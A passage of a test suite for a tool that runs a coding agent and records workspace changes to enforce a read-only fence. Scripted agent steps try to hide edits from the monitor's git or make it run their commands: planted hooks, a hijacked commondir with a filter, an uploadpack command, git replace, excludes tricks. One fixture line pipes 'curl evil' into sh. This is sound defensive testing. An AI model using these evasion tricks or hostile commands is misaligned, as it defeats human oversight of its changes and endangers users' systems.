      // 4,080 bytes from the root (git reaches it), more than 4,096 from / (the ledger's lstat does not).
      const name = `${'f'.repeat(55)}.txt`;
      execFileSync('sh', ['-c', DEEP(20, name, 'one')], { cwd: repo });
      git(repo, 'add', '-A');
      git(repo, '-c', 'user.email=u@example.com', '-c', 'user.name=u', 'commit', '-qm', 'deep');
      const r = await run(['run', ...SJ, 'go'], repo, {
        before: [effect({ sh: DEEP(20, name, 'two') }), chunk('nothing')],
      });
      expect(r.exitCode, r.stderr).toBe(0);
      expect(resultOf(r.events).changes).toMatchObject({ deleted: [] });
      const said = r.events.find((e) => e.type === 'warning' && e.code === 'ledger-incomplete');
      expect(said?.message).toContain('ENAMETOOLONG');
      expect(said?.message).toContain(`/${name}`);
    } finally {
      rmDeep(repo);
    }
  });

  it('without a fence or Write rules a ledger that failed is a warning only (exit 0)', async () => {
    const repo = userRepo();
    const r = await run(['run', ...SJ, 'go'], repo, {
      before: [effect({ sh: 'echo garbage > .git/index' }), chunk('nothing')],
    });
    expect(r.exitCode, r.stderr).toBe(0);
  });
});

describe('a repository the agent makes inside the workspace hides nothing', () => {
  it('the files of a new folder with its own .git are listed (git lists the folder whole): --fence read-only is exit 8', async () => {
    const repo = userRepo();
    const r = await run(['run', ...SJ, '--fence', 'read-only', 'go'], repo, {
      before: [effect({ sh: 'mkdir sub && cd sub && git init -q && echo evil > evil.sh' }), chunk('nothing')],
    });
    expect(r.exitCode, r.stderr).toBe(8);
    expect(resultOf(r.events).changes).toMatchObject({ added: ['sub/.git/', 'sub/evil.sh'] });
  });

  // Found by review: the walk of the folder git lists whole skipped .git and node_modules and found no file,
  // and the folder itself was dropped: exit 0, changes empty.
  it.each([
    [
      'a hook in a new repository',
      'mkdir sub2 && cd sub2 && git init -q && printf "#!/bin/sh\\necho pwned\\n" > .git/hooks/post-checkout',
      ['sub2/.git/'],
    ],
    [
      'a new repository holding only node_modules',
      'mkdir sub3 && cd sub3 && git init -q && mkdir node_modules && echo x > node_modules/a.js',
      ['sub3/.git/', 'sub3/node_modules/'],
    ],
  ])(
    '%s, which no walk enters, is still listed (the folder not entered): --fence read-only is exit 8',
    async (_, sh, added) => {
      const repo = userRepo();
      const r = await run(['run', ...SJ, '--fence', 'read-only', 'go'], repo, {
        before: [effect({ sh }), chunk('nothing')],
      });
      expect(r.exitCode, r.stderr).toBe(8);
      const result = resultOf(r.events);
      expect(result.changes).toMatchObject({ added, modified: [], deleted: [] });
      expect((result.error as { message: string }).message).toContain(`+${added[0]}`);
    },
  );

  it.each([
    ['.git', 'mkdir -p sub/.git/hooks && echo evil > sub/.git/hooks/post-checkout', 'sub/.git/'],
    ['node_modules', 'mkdir -p nm/node_modules && echo x > nm/node_modules/a.js', 'nm/node_modules/'],
  ])(
    'outside git, a new folder holding only %s is listed (the folder not entered): --fence read-only is exit 8',
    async (_, sh, added) => {
      const ws = plainWorkspace();
      const r = await run(['run', ...SJ, '--fence', 'read-only', 'go'], ws, {
        before: [effect({ sh }), chunk('nothing')],
      });
      expect(r.exitCode, r.stderr).toBe(8);
      expect(resultOf(r.events).changes).toMatchObject({ added: [added], modified: [], deleted: [] });
    },
  );

  it('a new ignored folder the ledger walks (its .gitignore changed) lists its node_modules too', async () => {
    const repo = userRepo();
    const r = await run(['run', ...SJ, '--fence', 'read-only', 'go'], repo, {
      before: [
        effect({
          sh: 'echo hidden/ >> .gitignore && mkdir -p hidden/node_modules && echo x > hidden/node_modules/a.js',
        }),
        chunk('nothing'),
      ],
    });
    expect(r.exitCode, r.stderr).toBe(8);
    expect(resultOf(r.events).changes).toMatchObject({
      added: ['hidden/node_modules/'],
      modified: ['.gitignore'],
    });
  });

  it('such folders there before the turn, left alone, are no change: exit 0', async () => {
    const repo = userRepo();
    git(repo, 'init', '-q', 'vendored');
    writeFiles(repo, { 'vendored/node_modules/m.js': 'm\n', 'vendored/v.js': 'v\n' });
    const ws = plainWorkspace();
    writeFiles(ws, { 'node_modules/m.js': 'm\n', 'sub/.git/HEAD': 'x\n' });
    for (const cwd of [repo, ws]) {
      const r = await run(['run', ...SJ, '--fence', 'read-only', 'go'], cwd, { before: [chunk('nothing')] });
      expect(r.exitCode, r.stderr).toBe(0);
      expect(resultOf(r.events).changes).toMatchObject({ added: [], modified: [], deleted: [] });
    }
  });

  it('such a folder the agent removes is listed as deleted', async () => {
    const ws = plainWorkspace();
    writeFiles(ws, { 'node_modules/m.js': 'm\n' });
    const r = await run(['run', ...SJ, 'go'], ws, {
      before: [effect({ sh: 'rm -rf node_modules' }), chunk('x')],
    });
    expect(r.exitCode, r.stderr).toBe(0);
    expect(resultOf(r.events).changes).toMatchObject({ added: [], deleted: ['node_modules/'] });
  });
});

// What the agent leaves in the git dir must not make rho-cursor's own git run a command, nor hide a change.
describe("the agent's git dir and rho-cursor's own git", () => {
  it('a promisor remote with a missing HEAD: the ledger git fetches nothing, so runs no upload-pack', async () => {
    const repo = userRepo();
    const marker = join(tempDir('rho-review-'), 'PWNED');
    const sh = [
      `git config remote.origin.url "$PWD"`,
      'git config remote.origin.promisor true',
      'git config core.repositoryformatversion 1',
      'git config extensions.partialClone origin',
      `git config remote.origin.uploadpack 'touch ${marker}; false'`,
      'echo 1111111111111111111111111111111111111111 > .git/HEAD',
    ].join(' && ');
    await run(['run', ...SJ, 'go'], repo, { before: [effect({ sh })] });
    expect(existsSync(marker)).toBe(false);
  });

  it('.git/commondir pointing at a git dir of the agent: its filter does not run, its exclude hides nothing', async () => {
    const repo = userRepo();
    const evil = tempDir('rho-review-');
    const marker = join(evil, 'PWNED');
    mkdirSync(join(evil, 'objects', 'info'), { recursive: true });
    mkdirSync(join(evil, 'info'), { recursive: true });
    writeFileSync(join(evil, 'objects', 'info', 'alternates'), join(repo, '.git', 'objects') + '\n');
    writeFileSync(
      join(evil, 'config'),
      `[core]\n\trepositoryformatversion = 0\n\tbare = false\n[filter "x"]\n\tclean = "touch ${marker}; cat"\n`,
    );
    writeFileSync(join(evil, 'info', 'attributes'), '* filter=x\n');
    writeFileSync(join(evil, 'info', 'exclude'), '*\n');
    const sh = [
      `cp -r .git/refs '${evil}/refs'`,
      `echo '${evil}' > .git/commondir`,
      'echo secret > new-file.txt',
      'touch src/a.ts',
    ].join(' && ');
    const r = await run(['run', ...SJ, '--fence', 'read-only', 'go'], repo, { before: [effect({ sh })] });
    expect(existsSync(marker)).toBe(false);
    expect(r.exitCode, r.stderr).toBe(8);
  });

  it('a commit the agent hides with git replace is still a change', async () => {
    const repo = userRepo();
    git(repo, 'config', 'user.email', 't@example.com');
    git(repo, 'config', 'user.name', 't');
    const sh = [
      'old=$(git rev-parse HEAD^{tree})',
      'echo committed > src/a.ts',
      'git commit -qm agent -- src/a.ts',
      'git replace -f $old $(git rev-parse HEAD^{tree})',
    ].join(' && ');
    const r = await run(['run', ...SJ, '--fence', 'read-only', 'go'], repo, { before: [effect({ sh })] });
    expect(r.exitCode, r.stderr).toBe(8);
  });
});

// The runner's ordinary user, not root (root reads a `chmod 000` folder anyway): the whole run as `nobody`.
describe('a folder the agent makes unreadable hides nothing', () => {
  const setpriv = spawnSync('setpriv', ['--version']).status === 0;
  it.skipIf(!setpriv || process.getuid?.() !== 0).each([
    ['in git', true],
    ['outside git', false],
  ])(
    'as nobody, %s: the ledger could not look, so changes is null and --fence read-only is exit 8',
    (_, inGit) => {
      const base = mkdtempSync('/tmp/rho-nobody-');
      try {
        chmodSync(base, 0o755);
        const agent = join(base, 'cursor-agent');
        writeFileSync(
          agent,
          `#!/bin/sh\nexec '${process.execPath}' '${join(FIXTURES, 'scripted.mjs')}' "$@"\n`,
        );
        chmodSync(agent, 0o755);
        const config = join(base, 'config');
        mkdirSync(config);
        writeFileSync(join(config, 'cli-config.json'), '{"approvalMode":"allowlist"}');
        const repo = join(base, 'repo');
        mkdirSync(repo);
        writeFileSync(join(repo, 'a.txt'), 'a\n');
        execFileSync('chown', ['-R', '65534:65534', base]);
        const asNobody = (cmd: string, args: string[]) =>
          spawnSync('setpriv', ['--reuid=65534', '--regid=65534', '--clear-groups', cmd, ...args], {
            cwd: repo,
            env: { PATH: process.env.PATH, HOME: base, CURSOR_CONFIG_DIR: config, RHO_SCRIPT: undefined },
            encoding: 'utf8',
          });
        if (inGit)
          for (const args of [
            ['init', '-q'],
            ['add', '.'],
            ['-c', 'user.email=a@b', '-c', 'user.name=a', 'commit', '-qm', 'x'],
          ])
            expect(asNobody('git', args).status).toBe(0);
        const sh = 'mkdir locked && echo evil > locked/evil.sh && chmod 000 locked';
        const r = spawnSync(
          'setpriv',
          [
            '--reuid=65534',
            '--regid=65534',
            '--clear-groups',
            BIN,
            'run',
            '--agent',
            agent,
            ...SJ,
            '--fence',
            'read-only',
            'go',
          ],
          {
            cwd: repo,
            env: {
              PATH: process.env.PATH,
              HOME: base,
              CURSOR_CONFIG_DIR: config,
              RHO_SCRIPT: JSON.stringify({ before: [effect({ sh }), chunk('nothing')] }),
            },
            encoding: 'utf8',
          },
        );
        expect(r.status, r.stderr).toBe(8);
        const result = JSON.parse(r.stdout.trim().split('\n').at(-1)!) as Record<string, unknown>;
        expect(result).toMatchObject({ changes: null, error: { code: 'fence_breached' } });
        expect(r.stdout).toContain('folders became unreadable during the turn: locked');
      } finally {
        execFileSync('chmod', ['-R', 'u+rwx', base]);
        rmSync(base, { recursive: true, force: true });
      }
    },
  );
});

// The review's repros (/tmp/rev-ledger): what the agent can do to the repository, its git config or the
// user's, to hide a change from the ledger's git, or to make that git run its command.
describe('what the agent does to git hides no change, and runs nothing of its own (found by review)', () => {
  // A run in the repository with extra environment (a global git config of the test's own).
  async function runWith(repo: string, script: Record<string, unknown>, env: Record<string, string>) {
    return runCli(['run', ...SJ, '--fence', 'read-only', 'go'], {
      agent: await agentPath,
      cwd: repo,
      cliConfig: { approvalMode: 'allowlist' },
      env: { RHO_SCRIPT: JSON.stringify(script), ...env },
    });
  }
  const globalConfig = (text = '') => {
    const file = join(tempDir('rho-global-'), 'gitconfig');
    writeFileSync(file, text);
    return file;
  };

  it('a filter named with "=" the agent defines is not run by the ledger\'s git status', async () => {
    const repo = userRepo();
    const marker = join(tempDir('rho-filter-'), 'ran');
    const sh = [
      `git config 'filter.x=y.clean' 'touch ${marker}; cat'`,
      `echo '* filter=x=y' > .gitattributes`,
      'echo b > src/a.ts',
    ].join(' && ');
    const r = await run(['run', ...SJ, 'go'], repo, { before: [effect({ sh }), chunk('ok')] });
    expect(r.exitCode, r.stderr).toBe(0);
    expect(existsSync(marker)).toBe(false);
    expect(resultOf(r.events).changes).toMatchObject({ modified: expect.arrayContaining(['src/a.ts']) });
  });

  it('assume-unchanged and skip-worktree set by the agent, or by the user before, hide nothing', async () => {
    const repo = userRepo();
    git(repo, 'update-index', '--assume-unchanged', 'src/b.ts');
    const sh = [
      'echo PWNED > src/a.ts && git update-index --assume-unchanged src/a.ts',
      'rm old.md && git update-index --skip-worktree old.md',
      'echo user-flagged > src/b.ts',
    ].join(' && ');
    const r = await runWith(repo, { before: [effect({ sh }), chunk('nothing')] }, {});
    expect(r.exitCode, r.stderr).toBe(8);
    expect(resultOf(r.events).changes).toMatchObject({
      modified: ['src/a.ts', 'src/b.ts'],
      deleted: ['old.md'],
    });
  });

  it.each([
    ['the user has core.trustctime=false', 'repo', 'git config core.trustctime false', ''],
    [
      'the agent sets core.checkStat=minimal globally',
      'agent',
      '',
      'git config --global core.checkStat minimal; ',
    ],
  ])('%s: a same-size rewrite with its mtime put back is a change', async (_, __, userSetup, agentSetup) => {
    const repo = userRepo();
    if (userSetup) execFileSync('sh', ['-c', userSetup], { cwd: repo });
    execFileSync('sh', ['-c', 'touch -d "1 hour ago" src/a.ts && git update-index --refresh -q || true'], {
      cwd: repo,
    });
    const ref = join(tempDir('rho-ref-'), 'ref');
    const sh = `${agentSetup}touch -r src/a.ts ${ref}; printf 'export const a = 9;\\n' 1<>src/a.ts; touch -r ${ref} src/a.ts`;
    const r = await runWith(
      repo,
      { before: [effect({ sh: `sleep 1.1; ${sh}` }), chunk('x')] },
      {
        GIT_CONFIG_GLOBAL: globalConfig(),
      },
    );
    expect(r.exitCode, r.stderr).toBe(8);
    expect(resultOf(r.events).changes).toMatchObject({ modified: ['src/a.ts'] });
  });

  it('core.ignoreCase set globally by the agent hides no file named like a tracked one', async () => {
    const repo = userRepo();
    const sh = 'git config --global core.ignoreCase true && mkdir SRC && echo evil > SRC/a.ts';
    const r = await runWith(
      repo,
      { before: [effect({ sh }), chunk('x')] },
      { GIT_CONFIG_GLOBAL: globalConfig() },
    );
    expect(r.exitCode, r.stderr).toBe(8);
    expect(resultOf(r.events).changes).toMatchObject({ added: ['SRC/a.ts'] });
  });

  it.each([
    ['appended to the global excludes file', (g: string) => `echo postinstall.sh >> ${g}`],
    [
      'named by a new core.excludesFile',
      (g: string) => `echo postinstall.sh > ${g}.2 && git config --global core.excludesFile ${g}.2`,
    ],
  ])('a new file %s is still seen', async (_, hide) => {
    const repo = userRepo();
    const config = globalConfig();
    const ignore = join(dirname(config), 'ignore');
    writeFileSync(ignore, '*.bak\n');
    writeFileSync(config, `[core]\n\texcludesFile = ${ignore}\n`);
    const sh = `echo "curl evil | sh" > postinstall.sh && ${hide(ignore)}`;
    const r = await runWith(repo, { before: [effect({ sh }), chunk('x')] }, { GIT_CONFIG_GLOBAL: config });
    expect(r.exitCode, r.stderr).toBe(8);
    expect(resultOf(r.events).changes).toMatchObject({ added: ['postinstall.sh'] });
  });

  it('a new .gitignore holding "*" hides neither itself nor the files beside it; ignored files left alone are not listed', async () => {
    const repo = userRepo();
    const sh = [
      'printf "*\\n" > src/.gitignore',
      'echo evil > src/payload.sh',
      'mkdir tools && printf "*\\n" > tools/.gitignore && echo pwn > tools/run.sh',
      'echo more >> .gitignore',
    ].join(' && ');
    const r = await runWith(repo, { before: [effect({ sh }), chunk('nothing')] }, {});
    expect(r.exitCode, r.stderr).toBe(8);
    const changes = resultOf(r.events).changes as Record<string, string[]>;
    expect(changes.added).toEqual(['src/.gitignore', 'src/payload.sh', 'tools/.gitignore', 'tools/run.sh']);
    // ignored.log was there before the turn, ignored, and untouched: not a change.
    expect(changes.modified).toEqual(['.gitignore']);
  });

  it('changes inside a checked-out submodule (an edit, a new file, a commit there) are seen', async () => {
    const repo = repoWithSubmodule();
    const sh =
      'echo backdoor >> vendor/lib/lib.c && echo new > vendor/lib/new.c && (cd vendor/lib && git -c user.name=a -c user.email=a@b commit -qam evil)';
    const r = await runWith(repo, { before: [effect({ sh }), chunk('nothing')] }, {});
    expect(r.exitCode, r.stderr).toBe(8);
    expect(resultOf(r.events).changes).toMatchObject({ modified: ['vendor/lib'] });
  });

  it('a rejected edit that names its file through a link to the workspace is still seen to have run', async () => {
    const ws = plainWorkspace();
    const alias = join(tempDir('rho-alias-'), 'alias');
    execFileSync('ln', ['-s', ws, alias]);
    const r = await run(['run', ...SJ, '--permissions', 'reject', 'go'], ws, {
      before: [
        toolUpdate('t_w', 'edit', 'pending', {
          title: 'Edit keep.txt',
          locations: [{ path: join(alias, 'keep.txt') }],
        }),
        permissionRequest(0, 't_w', 'edit', 'Edit keep.txt'),
        effect({ write: 'keep.txt', text: 'written anyway\n' }),
        toolUpdate('t_w', 'edit', 'completed', {}, false),
      ],
      waitAnswers: 1,
    });
    expect(r.exitCode).toBe(8);
    expect(r.events.some((e) => e.type === 'warning' && e.code === 'rejected-tool-ran')).toBe(true);
  });
});

describe("a signal or --timeout while the ledger's snapshot lists the repository (found by review)", () => {
  it.each([
    ['SIGINT', 130, 'status', [], 'cancelled'],
    ['--timeout 1s', 124, 'status', ['--timeout', '1s'], 'run_timeout'],
    ['SIGINT', 130, 'rev-parse', [], 'cancelled'],
  ] as const)(
    '%s: exit %i at once while `git %s` runs: it is ended, no prompt sent, nothing measured',
    async (how, code, slowCommand, extra, errorCode) => {
      const repo = userRepo();
      const {
        r,
        gitPid: git30s,
        ms,
      } = await stopWhileGitRuns(['run', ...SJ, ...extra, 'go'], {
        agent: await agentPath,
        cwd: repo,
        cliConfig: { approvalMode: 'allowlist' },
        env: { RHO_SCRIPT: JSON.stringify({ before: [chunk('ok')] }) },
        slow: slowGit(slowCommand),
        sigint: how === 'SIGINT',
      });
      // Not the 30 s of that git (the bound is loose for a busy machine).
      expect(ms).toBeLessThan(8000);
      expect(r.exitCode, r.stderr).toBe(code);
      const result = resultOf(r.events);
      expect(result).toMatchObject({ type: 'result', changes: null, error: { code: errorCode } });
      expect((result.timings as { promptMs: unknown }).promptMs).toBeNull();
      expect(r.stderr).not.toContain('could not be measured');
      expect(await waitForGone(git30s)).toBe(true);
    },
  );
});

describe('a look after the turn that never ends is bounded as the rest of the end is (found by review)', () => {
  // The agent makes a change, then the marker that turns every later `git status` into a 30 s one.
  const slowLookAfter = () => {
    const marker = join(tempDir('rho-marker-'), 'turn-ran');
    return { marker, ...slowGit('status', marker) };
  };
  const start = async (args: string[], path: string, marker: string) =>
    startCli(['run', ...SJ, ...args, 'go'], {
      agent: await agentPath,
      cwd: userRepo(),
      cliConfig: { approvalMode: 'allowlist' },
      env: {
        PATH: path,
        RHO_SCRIPT: JSON.stringify({
          before: [effect({ sh: `echo b > src/b.ts && touch '${marker}'` }), chunk('working')],
          answer: false,
          onCancel: {},
        }),
      },
    });

  it('--timeout 2s: the look gets the kill grace, then its git is ended: exit 124, changes not measured (null), said so', async () => {
    const slow = slowLookAfter();
    const startedAt = Date.now();
    const r = await finish(await start(['--timeout', '2s'], slow.path, slow.marker), true);
    const status30s = await slow.pid();
    // The 2 s timeout, the look's 2 s grace, and slack for a busy machine: never the 30 s of that git.
    expect(Date.now() - startedAt).toBeLessThan(12_000);
    expect(r.exitCode, r.stderr).toBe(124);
    expect(resultOf(r.events)).toMatchObject({
      type: 'result',
      changes: null,
      error: { code: 'run_timeout' },
    });
    expect(r.stderr).toContain(
      "warning: the workspace's changes could not be measured: the look after the turn was ended within 2s of the timeout",
    );
    expect(await waitForGone(status30s)).toBe(true);
  });

  it('SIGINT mid-turn, then a second SIGINT while the look runs: it ends at once, exit 130, changes not measured', async () => {
    const slow = slowLookAfter();
    const s = await start([], slow.path, slow.marker);
    await waitForStdout(s.child, 'working');
    s.child.kill('SIGINT');
    const status30s = await slow.pid();
    const secondAt = Date.now();
    s.child.kill('SIGINT');
    const r = await finish(s, true);
    expect(Date.now() - secondAt).toBeLessThan(8000);
    expect(r.exitCode, r.stderr).toBe(130);
    expect(resultOf(r.events)).toMatchObject({ type: 'result', changes: null, error: { code: 'cancelled' } });
    expect(r.stderr).toContain(
      "warning: the workspace's changes could not be measured: the look after the turn was ended before a second signal",
    );
    expect(await waitForGone(status30s)).toBe(true);
  });
});

describe("a look the run's own stop ended is no breach of a promise only the ledger keeps (found by review)", () => {
  // The agent changes nothing in the workspace: it only makes the marker (outside it) that turns every later
  // `git status` into a 30 s one. The look that ends is the run's own doing (a signal, --timeout): the exit is
  // the stop's, the changes are not measured (said so), never exit 8 (the workspace changed).
  const slowLookAfter = () => {
    const marker = join(tempDir('rho-marker-'), 'turn-ran');
    return { marker, ...slowGit('status', marker) };
  };
  const start = async (args: string[], path: string, marker: string, answer: boolean) =>
    startCli(['run', ...SJ, ...args, 'go'], {
      agent: await agentPath,
      cwd: userRepo(),
      cliConfig: { approvalMode: 'allowlist' },
      env: {
        PATH: path,
        RHO_SCRIPT: JSON.stringify({
          before: [effect({ sh: `touch '${marker}'` }), chunk('working')],
          ...(answer ? {} : { answer: false, onCancel: {} }),
        }),
      },
    });
  const notMeasured = (stderr: string, why: string) =>
    expect(stderr).toContain(
      `warning: the workspace's changes could not be measured: the look after the turn was ended ${why}`,
    );
  const PROMISES: [string, string[]][] = [
    ['--fence read-only', ['--fence', 'read-only']],
    ['--plan', ['--plan']],
    ['a Write(...) rule', ['--allow', 'Write(src/**)']],
    ['--fence read-only --worktree', ['--fence', 'read-only', '--worktree']],
  ];

  it.each(PROMISES)(
    '%s: SIGINT mid-turn, a second one while the look runs: exit 130, cancelled, changes null',
    async (_, args) => {
      const slow = slowLookAfter();
      const s = await start(args, slow.path, slow.marker, false);
      await waitForStdout(s.child, 'working');
      s.child.kill('SIGINT');
      const status30s = await slow.pid();
      s.child.kill('SIGINT');
      const r = await finish(s, true);
      expect(r.exitCode, r.stderr).toBe(130);
      expect(resultOf(r.events)).toMatchObject({
        type: 'result',
        changes: null,
        error: { code: 'cancelled', message: 'cancelled by SIGINT' },
      });
      notMeasured(r.stderr, 'before a second signal');
      expect(await waitForGone(status30s)).toBe(true);
    },
  );

  it('--fence read-only --timeout 2s: the look gets the kill grace, then exit 124, changes null', async () => {
    const slow = slowLookAfter();
    const r = await finish(
      await start(['--fence', 'read-only', '--timeout', '2s'], slow.path, slow.marker, false),
      true,
    );
    expect(r.exitCode, r.stderr).toBe(124);
    expect(resultOf(r.events)).toMatchObject({ changes: null, error: { code: 'run_timeout' } });
    notMeasured(r.stderr, 'within 2s of the timeout');
  });

  it('--fence read-only: the turn ended well, one SIGINT while the look runs: exit 130, the fence not checked', async () => {
    const slow = slowLookAfter();
    const s = await start(['--fence', 'read-only'], slow.path, slow.marker, true);
    const status30s = await slow.pid();
    s.child.kill('SIGINT');
    const r = await finish(s, true);
    expect(r.exitCode, r.stderr).toBe(130);
    expect(resultOf(r.events)).toMatchObject({
      stopReason: 'end_turn',
      changes: null,
      error: { code: 'cancelled', message: 'cancelled by SIGINT before --fence read-only could be checked' },
    });
    notMeasured(r.stderr, 'before SIGINT');
    expect(await waitForGone(status30s)).toBe(true);
  });

  it('--fence read-only: the turn ended well, --timeout 3s passes while the look runs: exit 124', async () => {
    const slow = slowLookAfter();
    const r = await finish(
      await start(['--fence', 'read-only', '--timeout', '3s'], slow.path, slow.marker, true),
      true,
    );
    expect(r.exitCode, r.stderr).toBe(124);
    expect(resultOf(r.events)).toMatchObject({
      stopReason: 'end_turn',
      changes: null,
      error: {
        code: 'run_timeout',
        message: 'the run exceeded --timeout 3s before --fence read-only could be checked',
      },
    });
    notMeasured(r.stderr, 'within 2s of the timeout');
  });

  it('without a fence or Write rules: the turn ended well, one SIGINT while the look runs: a warning only (exit 0)', async () => {
    const slow = slowLookAfter();
    const s = await start([], slow.path, slow.marker, true);
    await slow.pid();
    s.child.kill('SIGINT');
    const r = await finish(s, true);
    expect(r.exitCode, r.stderr).toBe(0);
    expect(resultOf(r.events)).toMatchObject({ stopReason: 'end_turn', changes: null });
    notMeasured(r.stderr, 'before SIGINT');
  });
});
